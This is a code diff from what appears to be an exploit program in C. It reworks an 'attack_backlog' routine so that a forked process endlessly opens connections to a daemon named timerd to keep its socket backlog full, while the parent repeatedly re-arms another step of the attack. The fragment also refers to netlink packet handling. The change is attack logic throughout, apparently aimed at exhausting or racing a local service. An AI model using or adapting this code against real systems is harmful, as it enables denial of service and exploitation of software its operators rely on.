@@ -116,25 +116,40 @@ void attack_refusals(const char *path)
 	}
 }
 
-void attack_backlog(const char *path)
+/* Fills the backlog for ever: timerd refuses the connections, and each refusal makes room for the
+ * next one. */
+static void fill_backlog(const char *path)
 {
 	static int fds[WAITING];
-	unsigned int next = 0;
+	unsigned int n = 0;
 
-	memset(fds, -1, sizeof(fds));
-	start_rearming(path);
 	for (;;) {
-		for (int k = 0; k < 200; k++) {
-			int fd = connect_more(path);
+		int fd = connect_more(path);
 
-			if (fd < 0)
-				break;
-			close(fds[next]);
-			fds[next] = fd;
-			next = (next + 1) % WAITING;
-		}
-		go_on_rearming();
+		if (fd < 0)
+			usleep(100); /* it is full */
+		else
+			fds[n++] = fd;
+		/* timerd has refused the older half, unless nothing moves. */
+		if (n < WAITING)
+			continue;
+		for (unsigned int i = 0; i < WAITING / 2; i++)
+			close(fds[i]);
+		memmove(fds, fds + WAITING / 2, sizeof(fds) / 2);
+		n = WAITING / 2;
 	}
+}
+
+void attack_backlog(const char *path)
+{
+	pid_t filler;
+
+	start_rearming(path); /* before the backlog is full */
+	filler = wire_fork();
+	if (filler == 0)
+		fill_backlog(path);
+	for (;;)
+		go_on_rearming();
 }
 
 /* Each pair of instructions walks the whole packet as netlink attributes: so the ids of the
